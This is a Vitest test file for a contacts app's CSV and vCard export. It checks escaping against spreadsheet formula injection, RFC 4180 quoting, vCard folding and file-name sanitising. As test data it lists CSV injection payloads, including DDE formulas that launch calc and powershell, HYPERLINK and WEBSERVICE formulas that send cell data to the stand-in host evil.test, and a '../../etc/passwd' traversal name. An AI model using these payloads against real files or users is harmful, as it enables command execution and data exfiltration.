import { expect, test } from 'vitest'
import { csvLines } from '#rules/content/csv.ts'
import { cellText, plainCell } from '#rules/content/csv-cells.ts'
import { contactFileName } from '#rules/leads/files/lead-file-formats.ts'
import { readCsv } from '#rules/content/read-csv.ts'
import { writeVcard } from '#rules/leads/files/write-vcard.ts'

/** The beginnings that OWASP's page on CSV injection lists, and attacks seen in the wild. */
test.each([
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1+1)',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.test?leak="&A1,"Error: click here")',
  `+cmd|' /C powershell'!A0`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.test/"&A1)'
])('a spreadsheet shows %j as text, and an import reads it as it was', (attack) => {
  const cell = plainCell(attack)
  expect(cell).toBe(`'${attack}`)
  expect(cellText(cell)).toBe(attack)
  const written = csvLines([[attack]], ',')
  expect(written).toBe(`"'${attack.replaceAll('"', '""')}"\r\n`)
  expect(readCsv(written).headings).toEqual([attack])
})

test.each(['Marie-Ève', `D'Arcy`, `'t Hooft`, '(416) 555-0199', '1 = 1', ''])(
  '%j is a plain cell',
  (text) => {
    expect(plainCell(text)).toBe(text)
    expect(cellText(text)).toBe(text)
  }
)

test('an apostrophe that somebody typed before a formula survives the way there and back', () => {
  expect(cellText(plainCell(`'=1`))).toBe(`'=1`)
})

test('cells with quotes, delimiters and line breaks are quoted as RFC 4180 has it', () => {
  expect(csvLines([['a "b"', 'c,d', 'e\r\nf']], ',')).toBe('"a ""b""","c,d","e\r\nf"\r\n')
  expect(csvLines([['1;2', 'x']], ';')).toBe('"1;2";"x"\r\n')
  expect(csvLines([], ',')).toBe('')
})

const MARIE = {
  lead_id: 'ab2f3c1e-0000-4000-8000-000000000001',
  name: 'Marie-Ève de la Cœur',
  email: 'marie@example.ca',
  phone: '5145550199',
  address: '12, rue Queen; app. 3',
  message: 'Bonjour,\r\nla maison \\ le condo',
  tags: ['Condo', 'A, B']
}

test('a vCard has escaped texts, a number that dials from anywhere, and CRLF at its line ends', () => {
  expect(writeVcard(MARIE).split('\r\n')).toEqual([
    'BEGIN:VCARD',
    'VERSION:3.0',
    'UID:urn:uuid:ab2f3c1e-0000-4000-8000-000000000001',
    'N:Cœur;Marie-Ève de la;;;',
    'FN:Marie-Ève de la Cœur',
    'EMAIL;TYPE=INTERNET:marie@example.ca',
    'TEL;TYPE=CELL:+15145550199',
    'ADR;TYPE=HOME:;;12\\, rue Queen\\; app. 3;;;;',
    'CATEGORIES:Condo,A\\, B',
    'NOTE:Bonjour\\,\\nla maison \\\\ le condo',
    'END:VCARD',
    ''
  ])
})

test('lines of a vCard are at most 75 bytes and no character is cut', () => {
  const written = writeVcard({ ...MARIE, message: 'é🏡한'.repeat(500) })
  const bytes = written.split('\r\n').map((line) => new TextEncoder().encode(line).length)
  expect(Math.max(...bytes)).toBeLessThanOrEqual(75)
  expect(written.replaceAll('\r\n ', '')).toContain('é🏡한'.repeat(500))
})

test('somebody without a name goes by their email address or phone number', () => {
  expect(writeVcard({ ...MARIE, name: '' })).toContain('FN:marie@example.ca\r\n')
  expect(writeVcard({ ...MARIE, name: '', email: '' })).toContain('FN:5145550199\r\n')
})

test.each([
  ['Marie-Ève Tremblay', 'Marie-Ève Tremblay.vcf'],
  ['../../etc/passwd', 'etc passwd.vcf'],
  ['a\u0000b\r\n"c"', 'a b c.vcf'],
  ['…?', '….vcf'],
  ['???', 'contact.vcf']
])('the contact %j is saved as %j', (name, file) => {
  expect(contactFileName(name)).toBe(file)
})
